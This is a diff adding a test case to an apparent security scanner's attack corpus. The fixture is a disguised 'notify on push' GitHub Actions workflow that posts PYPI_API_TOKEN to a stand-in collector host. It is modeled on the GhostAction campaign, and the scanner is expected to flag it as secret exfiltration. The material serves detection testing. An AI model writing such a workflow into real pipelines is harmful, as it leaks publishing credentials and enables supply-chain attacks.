@@ -3178,6 +3178,25 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
   },
   {
+    id: 'attack-ghostaction-http-request-action',
+    description:
+      'The GhostAction theft of September 2025 without curl: a newcomer\'s "notify on push" workflow hands PYPI_API_TOKEN to fjogeleit/http-request-action in its `data:` input, posted to a host that is not PyPI\'s.',
+    fixture: () =>
+      attackPr({
+        repo: 'py-utils',
+        number: 7399,
+        author: 'newcomer',
+        title: 'ci: notify on push',
+        files: [
+          {
+            path: '.github/workflows/notify.yml',
+            head: lines('name: Notify', 'on: push', 'jobs:', '  notify:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: fjogeleit/http-request-action@v1', '        with:', '          url: https://notify.build-hooks.dev/n', '          method: POST', '          data: \'{"t": "${{ secrets.PYPI_API_TOKEN }}"}\''),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
     id: 'attack-ghostaction-collector-host-in-variables',
     description:
       'Modeled on the September 2025 GhostAction write-ups, varied: the collector host (a name spelling a public IP under plesk.page) is assembled from two shell variables, and the secret comes from the step env, sent in the query string.',
